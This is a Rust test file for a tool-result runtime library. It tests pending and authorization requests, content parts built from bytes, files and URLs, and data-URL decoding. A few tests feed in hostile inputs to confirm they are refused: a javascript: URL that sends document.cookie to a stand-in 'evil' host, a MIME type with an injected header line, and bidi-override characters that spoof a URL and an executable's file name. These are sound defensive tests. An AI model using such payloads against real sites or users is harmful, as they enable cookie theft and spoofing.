// codegen: package; requires ContentPart, Request, ToolResult

//! The runtime helpers: results, suspensions and parts from files, with the same
//! semantics as the Python runtime.

use std::path::PathBuf;

use serde_json::{Map, Value, json};
use toolnexus::{
    BytesError, ContentPart, ContentPartKind, DEFAULT_AUTH_PROMPT, DEFAULT_MAX_BYTES, FileError,
    MimeTypeError, Request, ToolResult, UrlError, Wire, auth_required, new_request_id, pending,
    pending_of,
};

fn meta(pairs: &[(&str, Value)]) -> Map<String, Value> {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), v.clone()))
        .collect()
}

/// A fresh folder under the system's temp folder, removed when dropped.
struct TempDir(PathBuf);

impl TempDir {
    fn new(name: &str) -> TempDir {
        let dir = std::env::temp_dir().join(format!("toolnexus-{name}-{}", new_request_id()));
        std::fs::create_dir_all(&dir).unwrap();
        TempDir(dir)
    }

    fn file(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.0.join(name);
        std::fs::write(&path, bytes).unwrap();
        path
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[test]
fn ok_and_error() {
    let ok = ToolResult::ok("4");
    assert_eq!((ok.output.as_str(), ok.is_error), ("4", false));
    assert!(ok.parts.is_empty() && ok.metadata.is_none() && ok.extra.is_empty());
    let err = ToolResult::error(String::from("boom"));
    assert_eq!((err.output.as_str(), err.is_error), ("boom", true));
    assert_eq!(err.to_json(), r#"{"output":"boom","isError":true}"#);
}

#[test]
fn with_metadata_merges_and_keeps_places() {
    let r = ToolResult::ok("x")
        .with_metadata(meta(&[("b", json!(1)), ("a", json!(2))]))
        .with_metadata(meta(&[("c", json!(3)), ("b", json!(9))]));
    let expected = if cfg!(feature = "lossless") {
        r#"{"output":"x","isError":false,"metadata":{"b":9,"a":2,"c":3}}"#
    } else {
        r#"{"output":"x","isError":false,"metadata":{"a":2,"b":9,"c":3}}"#
    };
    assert_eq!(r.to_json(), expected);
    let suspended = auth_required("https://x", "").with_metadata(meta(&[("n", json!(1))]));
    assert!(
        pending_of(&suspended).is_some(),
        "a pending request survives with_metadata"
    );
}

#[test]
fn pending_fills_in_an_id_and_the_output() {
    let r = pending(Request {
        kind: "input".into(),
        prompt: "Your name?".into(),
        url: Some("https://example.com/form".into()),
        ..Default::default()
    });
    assert!(r.is_error);
    assert_eq!(r.output, "Your name?\nhttps://example.com/form");
    let req = pending_of(&r).unwrap();
    assert_eq!(req.id.len(), 4 + 32);
    assert!(
        req.id[4..]
            .bytes()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    );
    assert_eq!(r.metadata.as_ref().unwrap()["pending"], req.to_wire());

    let kept = pending(Request {
        id: "mine".into(),
        kind: "approval".into(),
        prompt: "Go?".into(),
        url: Some(String::new()),
        ..Default::default()
    });
    assert_eq!(kept.output, "Go?", "an empty url adds no line");
    assert_eq!(pending_of(&kept).unwrap().id, "mine");
    assert_ne!(new_request_id(), new_request_id());
}

#[test]
fn pending_of_after_a_wire_round_trip() {
    let r = auth_required("https://example.com/login", "Sign in to GitHub");
    assert_eq!(r.output, "Sign in to GitHub\nhttps://example.com/login");
    let back = ToolResult::from_json(&r.to_json()).unwrap();
    assert_eq!(back, r);
    let req = pending_of(&back).unwrap();
    assert_eq!(req.kind, "authorization");
    assert_eq!(req.url.as_deref(), Some("https://example.com/login"));
    assert_eq!(
        pending_of(&auth_required("https://u.test", ""))
            .unwrap()
            .prompt,
        DEFAULT_AUTH_PROMPT
    );
}

#[test]
fn a_refused_url_gives_an_error_result_not_a_suspension() {
    // The link a host shows a person: only http and https (idl/helpers/pending.json has more).
    let r = auth_required("javascript:fetch('//evil/'+document.cookie)", "Sign in");
    assert!(r.is_error && pending_of(&r).is_none(), "{r:?}");
    assert_eq!(
        r.output,
        "cannot ask \"authorization\": the request's url is refused: the URL \
         \"javascript:fetch('//evil/'+document.cookie)\" is not an http or https URL \
         (javascript:, file:, data: and others are refused)"
    );
    let r = auth_required("", "");
    assert!(r.is_error && pending_of(&r).is_none(), "{r:?}");
    let r = pending(Request {
        kind: "authorization".into(),
        prompt: "Sign in".into(),
        url: Some("https://example.com/\u{202e}moc.elgoog".into()),
        ..Default::default()
    });
    assert!(
        r.output
            .ends_with("holds a bidi formatting character (U+202E) at index 20")
    );
}

#[test]
fn from_bytes_refuses_a_missing_blank_or_line_breaking_mime_type() {
    assert_eq!(
        ContentPart::from_bytes(b"hi", ""),
        Err(BytesError::MimeType(MimeTypeError::Missing))
    );
    for bad in [" ", "text/plain\r\nX-Evil: 1", "image/png\u{85}"] {
        let err = ContentPart::from_bytes(b"hi", bad).unwrap_err();
        assert!(
            matches!(&err, BytesError::MimeType(MimeTypeError::NotValid { mime_type, .. }) if mime_type == bad),
            "{err:?}"
        );
    }
    // From a data: URL too: a blank MIME type given is refused, where it was kept.
    let err = ContentPart::from_url("data:image/png;base64,aGk=", Some(" ")).unwrap_err();
    assert_eq!(err.to_string(), "the MIME type \" \" is blank", "{err:?}");
}

#[test]
fn pending_of_ignores_anything_else() {
    assert!(pending_of(&ToolResult::ok("x")).is_none());
    let not_a_request =
        ToolResult::error("x").with_metadata(meta(&[("pending", json!({"id": 1}))]));
    assert!(pending_of(&not_a_request).is_none());
    let null = ToolResult::error("x").with_metadata(meta(&[("pending", Value::Null)]));
    assert!(pending_of(&null).is_none());
}

const PNG: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";

#[test]
fn from_path_reads_sniffs_and_names() {
    let dir = TempDir::new("parts");
    let part = ContentPart::from_path(dir.file("shot.dat", PNG)).unwrap();
    assert_eq!(part.kind, ContentPartKind::Image);
    assert_eq!(part.mime_type, "image/png");
    assert_eq!(part.name, "shot.dat");
    assert_eq!(part.raw().unwrap(), PNG);
    assert_eq!(ContentPart::from_json(&part.to_json()).unwrap(), part);

    let notes = ContentPart::from_path(dir.file("notes.md", b"# hi")).unwrap();
    assert_eq!(
        (notes.kind, notes.mime_type.as_str()),
        (ContentPartKind::File, "text/markdown")
    );
    assert_eq!(notes.data, "IyBoaQ==");
    let blob = ContentPart::from_path(dir.file("blob", b"\0\x01\x02")).unwrap();
    assert_eq!(blob.mime_type, "application/octet-stream");
    // An empty file carries nothing (an empty `data` is omitted), so it is no part.
    let empty = ContentPart::from_path(dir.file("empty.wav", b"")).unwrap_err();
    assert!(
        matches!(empty, toolnexus::FileError::Empty { .. }),
        "{empty}"
    );
    assert!(
        empty
            .to_string()
            .ends_with("the file is empty; a part carries content")
    );
    // A video is a `file` part; its MIME type says what it is.
    let clip = ContentPart::from_path(dir.file("clip.bin", b"\0\0\0\x20ftypisom")).unwrap();
    assert_eq!(
        (clip.kind, clip.mime_type.as_str()),
        (ContentPartKind::File, "video/mp4")
    );
}

#[cfg(unix)]
#[test]
fn from_path_refuses_a_fifo_without_blocking() {
    let dir = TempDir::new("fifo");
    let fifo = dir.0.join("pipe");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .is_ok_and(|s| s.success());
    if !made {
        return; // no mkfifo here
    }
    let err = ContentPart::from_path(&fifo).unwrap_err();
    assert!(matches!(err, FileError::NotRegularFile { .. }), "{err:?}");
    assert!(err.to_string().contains("not a regular file"), "{err}");
}

#[test]
fn text_parts() {
    let part = ContentPart::text("hello");
    assert_eq!(part.kind, ContentPartKind::Text);
    assert_eq!(part.text, "hello");
    assert_eq!(part.to_json(), r#"{"type":"text","text":"hello"}"#);
    assert_eq!(ContentPart::text("").to_json(), r#"{"type":"text"}"#);
}

#[test]
fn from_bytes_of_no_bytes_is_refused() {
    // An empty `data` is omitted from the wire: the part would carry nothing.
    assert_eq!(
        ContentPart::from_bytes(b"", "image/png"),
        Err(toolnexus::BytesError::Empty)
    );
    let part = ContentPart::from_bytes(b"hi", "text/plain").unwrap();
    assert_eq!(
        part.to_json(),
        r#"{"type":"file","mimeType":"text/plain","data":"aGk="}"#
    );
}

#[test]
fn a_part_that_carries_nothing_is_read_and_kept_as_upstream_writes_it() {
    // Upstream's `ContentPart::text("")` and `from_bytes` of no bytes: read, and written back
    // as they came (every language does; the adapters send a note in their place).
    for (doc, emitted) in [
        (r#"{"type":"text"}"#, r#"{"type":"text"}"#),
        (r#"{"type":"text","text":""}"#, r#"{"type":"text"}"#),
        (
            r#"{"type":"image","mimeType":"image/png"}"#,
            r#"{"type":"image","mimeType":"image/png"}"#,
        ),
        (
            r#"{"type":"file","mimeType":"application/octet-stream"}"#,
            r#"{"type":"file","mimeType":"application/octet-stream"}"#,
        ),
    ] {
        assert_eq!(
            ContentPart::from_json(doc).unwrap().to_json(),
            emitted,
            "{doc}"
        );
    }
    let doc = r#"{"output":"x","isError":false,"parts":[{"type":"text","text":"a"},{"type":"audio","name":"a.wav"}]}"#;
    assert_eq!(ToolResult::from_json(doc).unwrap().to_json(), doc);
    // Both: the content, and where it came from.
    let both = r#"{"type":"image","mimeType":"image/png","data":"aGk=","url":"https://e.x/a.png"}"#;
    assert_eq!(ContentPart::from_json(both).unwrap().to_json(), both);
}

#[test]
fn from_bytes_kind_follows_the_mime_family() {
    let cases = [
        ("image/png", ContentPartKind::Image),
        ("audio/ogg", ContentPartKind::Audio),
        ("video/mp4", ContentPartKind::File),
        ("application/pdf", ContentPartKind::File),
        ("text/plain", ContentPartKind::File),
    ];
    for (mime, kind) in cases {
        let part = ContentPart::from_bytes(b"hi", mime).unwrap();
        assert_eq!((part.kind, part.mime_type.as_str()), (kind, mime));
        assert_eq!(part.data, "aGk=");
    }
}

#[test]
fn with_name_names_a_part_as_python_and_typescript_do() {
    let part = ContentPart::from_bytes(b"hi", "application/pdf")
        .unwrap()
        .with_name("a.pdf");
    assert_eq!(
        part.to_json(),
        r#"{"type":"file","mimeType":"application/pdf","data":"aGk=","name":"a.pdf"}"#
    );
    let linked = ContentPart::from_url("https://e.com/v.mp4", Some("video/mp4"))
        .unwrap()
        .with_name("v.mp4");
    assert_eq!(linked.name, "v.mp4");
    assert_eq!(
        ContentPart::from_bytes(b"hi", "a/b")
            .unwrap()
            .with_name("")
            .to_json(),
        r#"{"type":"file","mimeType":"a/b","data":"aGk="}"#
    );
    let hidden = ContentPart::from_bytes(b"hi", "a/b")
        .unwrap()
        .with_name("evil\u{202e}gpj.exe");
    assert_eq!(hidden.name, "evil\u{fffd}gpj.exe");
}

#[test]
fn from_url_keeps_a_url_and_needs_its_mime_type() {
    let part = ContentPart::from_url("https://e.com/cat.png", Some("image/png")).unwrap();
    assert_eq!(part.kind, ContentPartKind::Image);
    assert_eq!(
        part.to_json(),
        r#"{"type":"image","mimeType":"image/png","url":"https://e.com/cat.png"}"#
    );
    let clip = ContentPart::from_url("https://e.com/v.mp4", Some("video/mp4")).unwrap();
    assert_eq!(clip.kind, ContentPartKind::File);
    for mime in [None, Some("")] {
        let err = ContentPart::from_url("https://e.com/cat.png", mime).unwrap_err();
        assert_eq!(
            err,
            UrlError::MissingMimeType {
                url: "https://e.com/cat.png".to_owned()
            }
        );
        assert!(err.to_string().contains("needs its MIME type"), "{err}");
    }
    assert_eq!(
        ContentPart::from_url("", Some("image/png")),
        Err(UrlError::Empty)
    );
}

#[test]
fn from_url_decodes_a_data_url() {
    // base64: "hi" is aGk=
    let part = ContentPart::from_url("data:image/png;base64,aGk=", None).unwrap();
    assert_eq!(
        part.to_json(),
        r#"{"type":"image","mimeType":"image/png","data":"aGk="}"#
    );
    assert_eq!(part.raw().unwrap(), b"hi");
    // Upper-case scheme and BASE64, percent-encoded base64, a given MIME type wins.
    let part =
        ContentPart::from_url("DATA:audio/wav;BASE64,%2B%2F8%3D", Some("audio/x-wav")).unwrap();
    assert_eq!(
        (part.kind, part.mime_type.as_str(), part.data.as_str()),
        (ContentPartKind::Audio, "audio/x-wav", "+/8=")
    );
    // Not base64: percent-encoded bytes, parameters kept in the MIME type.
    let part = ContentPart::from_url("data:text/plain;charset=utf-8,a%20b%C3%A9%", None).unwrap();
    assert_eq!(part.mime_type, "text/plain;charset=utf-8");
    assert_eq!(part.raw().unwrap(), b"a b\xc3\xa9%");
    assert_eq!(part.kind, ContentPartKind::File);
    // No media type: text/plain;charset=US-ASCII, as RFC 2397 says.
    let part = ContentPart::from_url("data:,x", None).unwrap();
    assert_eq!(
        (part.mime_type.as_str(), part.data.as_str()),
        ("text/plain;charset=US-ASCII", "eA==")
    );
    for bad in [
        "data:image/png;base64",
        "data:image/png;base64,aGk",
        "data:;base64,a!==",
    ] {
        let err = ContentPart::from_url(bad, None).unwrap_err();
        assert!(matches!(err, UrlError::BadDataUrl { .. }), "{bad}: {err:?}");
    }
}

#[test]
fn from_path_errors_name_the_path_and_the_reason() {
    let dir = TempDir::new("errors");
    let missing = dir.0.join("missing.png");
    let err = ContentPart::from_path(&missing).unwrap_err();
    assert!(matches!(err, FileError::NotFound { .. }), "{err:?}");
    assert_eq!(err.path(), missing);
    assert!(err.to_string().contains("missing.png") && err.to_string().contains("no such file"));

    let err = ContentPart::from_path(&dir.0).unwrap_err();
    assert!(matches!(err, FileError::IsDirectory { .. }), "{err:?}");
    assert!(err.to_string().contains("is a directory"), "{err}");

    let ten = dir.file("ten.bin", &[7u8; 10]);
    assert!(ContentPart::from_path_with_limit(&ten, 10).is_ok());
    let err = ContentPart::from_path_with_limit(&ten, 9).unwrap_err();
    assert!(
        matches!(
            err,
            FileError::TooLarge {
                size: 10,
                limit: 9,
                ..
            }
        ),
        "{err:?}"
    );
    assert!(err.to_string().contains("ten.bin") && err.to_string().contains("limit of 9"));

    let big = dir.file("big.bin", &vec![0u8; DEFAULT_MAX_BYTES as usize + 1]);
    let err = ContentPart::from_path(&big).unwrap_err();
    assert!(
        matches!(
            err,
            FileError::TooLarge {
                limit: DEFAULT_MAX_BYTES,
                ..
            }
        ),
        "{err:?}"
    );
}

#[test]
fn raw_rejects_what_is_not_base64() {
    let mut part = ContentPart::from_bytes(b"abc", "text/plain").unwrap();
    assert_eq!(part.kind, ContentPartKind::File);
    assert_eq!(part.raw().unwrap(), b"abc");
    part.data = "YWJj!".into();
    assert_eq!(part.raw().unwrap_err().path(), "$.data");
}
